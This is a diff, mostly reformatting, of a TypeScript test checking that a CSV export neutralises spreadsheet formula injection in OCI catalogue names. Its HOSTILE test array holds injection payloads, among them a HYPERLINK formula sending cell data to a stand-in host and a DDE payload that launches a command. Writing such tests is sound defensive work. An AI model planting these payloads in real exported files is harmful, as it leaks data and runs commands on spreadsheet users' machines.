@@ -26,21 +26,36 @@ function readCsv(text: string): string[][] {
     for (let i = 0; i < text.length; i++) {
         const ch = text[i];
         if (quoted) {
-            if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; }
-            else if (ch === '"') quoted = false;
+            if (ch === '"' && text[i + 1] === '"') {
+                cell += '"';
+                i++;
+            } else if (ch === '"') quoted = false;
             else cell += ch;
         } else if (ch === '"') quoted = true;
-        else if (ch === ';') { row.push(cell); cell = ''; }
-        else if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
-        else cell += ch;
+        else if (ch === ';') {
+            row.push(cell);
+            cell = '';
+        } else if (ch === '\r' && text[i + 1] === '\n') {
+            row.push(cell);
+            rows.push(row);
+            row = [];
+            cell = '';
+            i++;
+        } else cell += ch;
     }
-    if (cell !== '' || row.length > 0) { row.push(cell); rows.push(row); }
+    if (cell !== '' || row.length > 0) {
+        row.push(cell);
+        rows.push(row);
+    }
     return rows;
 }
 
 type SpreadsheetCell = { kind: 'formula' | 'number' | 'text'; shown: string };
 
-/** What a spreadsheet makes of a cell: a formula when it starts with a formula character, a number, or text (a leading apostrophe marks text). */
+/**
+ * What a spreadsheet makes of a cell: a formula when it starts with a formula character, a number, or text (a leading
+ * apostrophe marks text).
+ */
 function interpret(raw: string): SpreadsheetCell {
     if (/^-?\d+(?:,\d+)?$/.test(raw)) return { kind: 'number', shown: raw };
     if (/^[=+\-@\t\r]/.test(raw)) return { kind: 'formula', shown: raw };
@@ -49,7 +64,7 @@ function interpret(raw: string): SpreadsheetCell {
 
 const HOSTILE = [
     '=HYPERLINK("http://exemplo.invalid/?d="&A1;"clique")',
-    '+1+cmd|\' /C calc\'!A0',
+    "+1+cmd|' /C calc'!A0",
     '-2+3',
     '@SUM(1;1)',
     '\t=1+1',
@@ -57,8 +72,12 @@ const HOSTILE = [
 ];
 
 let tmp: string;
-beforeAll(() => { tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'oci-csv-')); });
-afterAll(() => { fs.rmSync(tmp, { recursive: true, force: true }); });
+beforeAll(() => {
+    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'oci-csv-'));
+});
+afterAll(() => {
+    fs.rmSync(tmp, { recursive: true, force: true });
+});
 
 describe('catalogo.csv read by a spreadsheet', () => {
     it('shows hostile OCI names as text, never as formulas, and keeps numbers as numbers', async () => {
@@ -70,14 +89,23 @@ describe('catalogo.csv read by a spreadsheet', () => {
         expect(names).toHaveLength(HOSTILE.length);
         const written = new Map<string, string>();
         names.forEach((m, i) => {
-            const escaped = HOSTILE[i].replace(/\\/g, '\\\\').replace(/"/g, '\\"').replace(/\t/g, '\\t').replace(/\r/g, '\\r');
+            const escaped = HOSTILE[i]
+                .replace(/\\/g, '\\\\')
+                .replace(/"/g, '\\"')
+                .replace(/\t/g, '\\t')
+                .replace(/\r/g, '\\r');
             text = text.replace(m[0], `oci ${m[1]} "${escaped}"`);
             written.set(m[1], HOSTILE[i]);
         });
         fs.writeFileSync(file, text);
         const out = path.join(tmp, 'saida');
         let err = '';
-        const code = await main(['build', dir, '--out', out], { out: () => undefined, err: t => { err += t; } });
+        const code = await main(['build', dir, '--out', out], {
+            out: () => undefined,
+            err: t => {
+                err += t;
+            }
+        });
         expect(err).toBe('');
         expect(code).toBe(0);
 
@@ -89,7 +117,9 @@ describe('catalogo.csv read by a spreadsheet', () => {
             expect(row).toHaveLength(header.length);
             for (const raw of row) expect(interpret(raw).kind, raw).not.toBe('formula');
         }
-        const seen = new Map(body.map(r => [r[header.indexOf('codigo_oci')], interpret(r[header.indexOf('nome_oci')]).shown]));
+        const seen = new Map(
+            body.map(r => [r[header.indexOf('codigo_oci')], interpret(r[header.indexOf('nome_oci')]).shown])
+        );
         for (const [codigo, nome] of written) expect(seen.get(codigo)).toBe(nome);
         // Money and counts stay numbers (the neutralisation does not turn them into text).
         for (const column of ['valor_oci', 'qt', 'valor_linha']) {
@@ -98,7 +128,8 @@ describe('catalogo.csv read by a spreadsheet', () => {
     });
 
     it('neutralises every formula start but leaves numbers, including negative ones', () => {
-        for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(interpret(readCsv(`${csvCell(`${start}1+1`)}\r\n`)[0][0]).kind).toBe('text');
+        for (const start of ['=', '+', '-', '@', '\t', '\r'])
+            expect(interpret(readCsv(`${csvCell(`${start}1+1`)}\r\n`)[0][0]).kind).toBe('text');
         expect(csvCell('-12,50')).toBe('-12,50');
         expect(csvCell(3)).toBe('3');
         expect(csvCell('OCI AVALIAÇÃO - SÍNDROME')).toBe('OCI AVALIAÇÃO - SÍNDROME');
